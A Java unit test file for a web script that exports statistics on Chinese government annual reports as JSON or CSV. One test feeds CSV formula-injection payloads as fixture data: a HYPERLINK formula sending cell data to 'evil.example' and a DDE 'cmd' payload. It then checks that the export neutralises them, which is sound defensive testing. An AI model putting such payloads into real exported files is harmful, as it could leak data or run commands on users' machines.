package io.github.zwgk.annualreport.repo.webscript;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.mockito.Mockito.verify;
import static org.mockito.Mockito.when;

import java.io.Serializable;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;

import org.alfresco.model.ContentModel;
import org.alfresco.service.cmr.repository.NodeRef;
import org.alfresco.service.cmr.repository.NodeService;
import org.alfresco.service.cmr.repository.StoreRef;
import org.alfresco.service.namespace.QName;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.mockito.Mock;
import org.mockito.junit.jupiter.MockitoExtension;
import org.mockito.junit.jupiter.MockitoSettings;
import org.mockito.quality.Strictness;
import org.springframework.extensions.webscripts.WebScriptException;

import io.github.zwgk.annualreport.engine.model.Summary;
import io.github.zwgk.annualreport.engine.store.ReportFilter;
import io.github.zwgk.annualreport.engine.store.StoredResult;
import io.github.zwgk.annualreport.repo.analysis.ReportSearch;
import io.github.zwgk.annualreport.repo.model.AnnualReportModel;

/**
 * GET /annual-report/statistics over the reports the search finds (with the caller's permissions): the engine's
 * {@code ReportStatistics} on their stored properties, as JSON or CSV, and honest about truncation (issue 13.4).
 */
@ExtendWith(MockitoExtension.class)
@MockitoSettings(strictness = Strictness.LENIENT)
class StatisticsGetTest
{
    private final NodeRef valid = new NodeRef(StoreRef.STORE_REF_WORKSPACE_SPACESSTORE, "valid");
    private final NodeRef invalid = new NodeRef(StoreRef.STORE_REF_WORKSPACE_SPACESSTORE, "invalid");
    private final NodeRef pending = new NodeRef(StoreRef.STORE_REF_WORKSPACE_SPACESSTORE, "pending");

    @Mock ReportSearch reportSearch;
    @Mock NodeService nodeService;

    private StatisticsGet webScript;

    @BeforeEach
    void setUp()
    {
        webScript = new StatisticsGet();
        webScript.setReportSearch(reportSearch);
        webScript.setNodeService(nodeService);
        webScript.setTopFindings(2);
        when(reportSearch.find(new ReportFilter(2023, null, null, null), 10_000))
                .thenReturn(new ReportSearch.Found(List.of(valid, invalid, pending), false));
        when(nodeService.getProperties(valid)).thenReturn(report("石泉县人民政府2023年政府信息公开工作年度报告.docx", "石泉县人民政府",
                "VALID", 12, 1.5, List.of()));
        when(nodeService.getProperties(invalid)).thenReturn(report("息县关店乡, 2023.docx", "息县关店乡人民政府", "INVALID", 5, null,
                List.of("[错误] T3_BALANCE 表三收支不平衡（应为 5，实为 4）", "[错误] T3_ROW_SUM 表三行合计不符", "[警告] TITLE_MISSING 缺少报告标题")));
        when(nodeService.getProperties(pending)).thenReturn(report("new.pdf", "滑县人民政府办公室", "PENDING", null, null, null));
    }

    private static Map<QName, Serializable> report(String name, String agency, String status, Integer applicationsNew,
            Double fees, List<String> findings)
    {
        Map<QName, Serializable> p = new HashMap<>();
        p.put(ContentModel.PROP_NAME, name);
        p.put(AnnualReportModel.PROP_AGENCY_NAME, agency);
        p.put(AnnualReportModel.PROP_REPORT_YEAR, 2023);
        p.put(AnnualReportModel.PROP_VALIDATION_STATUS, status);
        p.put(AnnualReportModel.PROP_APPLICATIONS_NEW, applicationsNew);
        p.put(AnnualReportModel.PROP_FEES_AMOUNT_WAN_YUAN, fees);
        p.put(AnnualReportModel.PROP_FINDINGS, findings == null ? null : new ArrayList<>(findings));
        p.put(AnnualReportModel.PROP_ERROR_COUNT, findings == null ? null : (int) findings.stream().filter(f -> f.startsWith("[错误]")).count());
        return p;
    }

    @Test
    void jsonCountsReportsPerStatusSumsFiguresAndListsFailingReportsWithTheirFirstFindings() throws Exception
    {
        WebScriptMocks ws = new WebScriptMocks("json", Map.of(), Map.of("year", "2023"));

        webScript.execute(ws.req, ws.res);

        verify(ws.res).setContentType("application/json");
        JsonNode json = StoredResult.readTree(new String(ws.bytes(), StandardCharsets.UTF_8));
        assertThat(json.path("total").asInt()).isEqualTo(3);
        assertThat(json.path("filter").path("year").asInt()).isEqualTo(2023);
        assertThat(json.path("countsByStatus").path("VALID").asInt()).isEqualTo(1);
        assertThat(json.path("countsByStatus").path("INVALID").asInt()).isEqualTo(1);
        assertThat(json.path("countsByStatus").path("PENDING").asInt()).isEqualTo(1);
        assertThat(json.path("countsByStatus").path("UNREADABLE").asInt()).isZero();
        assertThat(json.path("sums").path("applicationsNew").decimalValue()).isEqualByComparingTo("17");
        assertThat(json.path("sums").path("feesAmountWanYuan").decimalValue()).isEqualByComparingTo("1.5");
        assertThat(json.path("reportsWithFigure").path("applicationsNew").asInt()).isEqualTo(2);
        for (String field : Summary.FIELD_NAMES)
        {
            assertThat(json.path("sums").has(field)).as(field).isTrue();
        }
        JsonNode failing = json.path("failingReports");
        assertThat(failing).hasSize(1);
        assertThat(failing.get(0).path("nodeRef").asText()).isEqualTo(invalid.toString());
        assertThat(failing.get(0).path("topFindings")).hasSize(2);
        assertThat(failing.get(0).path("topFindings").get(0).asText()).contains("T3_BALANCE");
    }

    @Test
    void csvHasOneRowPerReportAndATotalRowInUtf8WithAnOptionalBomForExcel() throws Exception
    {
        WebScriptMocks ws = new WebScriptMocks("csv", Map.of(), Map.of("year", "2023", "bom", "true"));

        webScript.execute(ws.req, ws.res);

        byte[] bytes = ws.bytes();
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        String[] lines = csv.split("\r\n");
        assertThat(lines).hasSize(5);
        assertThat(lines[0]).startsWith("nodeRef,name,agencyName").contains("applicationsNew").contains("feesAmountWanYuan");
        assertThat(lines[1]).contains("石泉县人民政府").contains("VALID");
        // a name with a comma is quoted (RFC 4180)
        assertThat(lines[2]).contains("\"息县关店乡, 2023.docx\"");
        assertThat(lines[4]).startsWith(",合计,").contains(",17,");
        verify(ws.res).setContentType("text/csv;charset=UTF-8");
    }

    @Test
    void csvWithoutBomStartsWithTheHeader() throws Exception
    {
        WebScriptMocks ws = new WebScriptMocks("csv", Map.of(), Map.of("year", "2023"));

        webScript.execute(ws.req, ws.res);

        assertThat(new String(ws.bytes(), StandardCharsets.UTF_8)).startsWith("nodeRef,");
    }

    @Test
    void unknownStatusIsABadRequest()
    {
        WebScriptMocks ws = new WebScriptMocks("json", Map.of(), Map.of("status", "BROKEN"));

        assertThatThrownBy(() -> webScript.execute(ws.req, ws.res)).isInstanceOf(WebScriptException.class)
                .satisfies(e -> assertThat(((WebScriptException) e).getStatus()).isEqualTo(400));
    }

    @Test
    void aSearchThatFoundMoreThanTheLimitIsReportedTruncated() throws Exception
    {
        webScript.setMaxReports(2);
        when(reportSearch.find(new ReportFilter(2023, null, null, null), 2))
                .thenReturn(new ReportSearch.Found(List.of(valid, invalid), true));
        WebScriptMocks ws = new WebScriptMocks("json", Map.of(), Map.of("year", "2023"));

        webScript.execute(ws.req, ws.res);

        JsonNode json = StoredResult.readTree(new String(ws.bytes(), StandardCharsets.UTF_8));
        assertThat(json.path("truncated").asBoolean()).isTrue();
        assertThat(json.path("maxReports").asInt()).isEqualTo(2);
        assertThat(json.path("total").asInt()).isEqualTo(2);
    }

    @Test
    void aCompleteSearchIsNotReportedTruncated() throws Exception
    {
        WebScriptMocks ws = new WebScriptMocks("json", Map.of(), Map.of("year", "2023"));

        webScript.execute(ws.req, ws.res);

        JsonNode json = StoredResult.readTree(new String(ws.bytes(), StandardCharsets.UTF_8));
        assertThat(json.path("truncated").asBoolean()).isFalse();
        assertThat(json.path("total").asInt()).isEqualTo(3);
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAsAFormulaAreNeutralised() throws Exception
    {
        NodeRef forged = new NodeRef(StoreRef.STORE_REF_WORKSPACE_SPACESSTORE, "forged");
        when(reportSearch.find(new ReportFilter(2023, null, null, null), 10_000))
                .thenReturn(new ReportSearch.Found(List.of(valid, forged), false));
        Map<QName, Serializable> p = report("=HYPERLINK(\"http://evil.example/?\"&A1,\"年报\").docx", "@SUM(1+1)", "INVALID",
                -3, null, List.of("+cmd|' /C calc'!A0", "-2+3"));
        p.put(AnnualReportModel.PROP_STATUS_REASON, "\t=1+1");
        when(nodeService.getProperties(forged)).thenReturn(p);
        WebScriptMocks ws = new WebScriptMocks("csv", Map.of(), Map.of("year", "2023"));

        webScript.execute(ws.req, ws.res);

        String[] lines = new String(ws.bytes(), StandardCharsets.UTF_8).split("\r\n");
        List<String> row = cells(lines[2]);
        for (String cell : row)
        {
            assertThat(cell).as(row.toString()).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
                    .doesNotStartWith("\t").doesNotStartWith("\r");
            if (cell.startsWith("-"))
            {
                // a negative number stays a number
                assertThat(cell).matches("-\\d+(\\.\\d+)?");
            }
        }
        assertThat(row).anySatisfy(c -> assertThat(c).contains("HYPERLINK")).anySatisfy(c -> assertThat(c).contains("SUM(1+1)"))
                .contains("-3");
        assertThat(lines[3]).startsWith(",合计,");
    }

    /** The cells of one RFC 4180 record. */
    private static List<String> cells(String line)
    {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < line.length(); i++)
        {
            char c = line.charAt(i);
            if (quoted && c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"')
            {
                cell.append('"');
                i++;
            }
            else if (c == '"')
            {
                quoted = !quoted;
            }
            else if (c == ',' && !quoted)
            {
                cells.add(cell.toString());
                cell.setLength(0);
            }
            else
            {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }
}
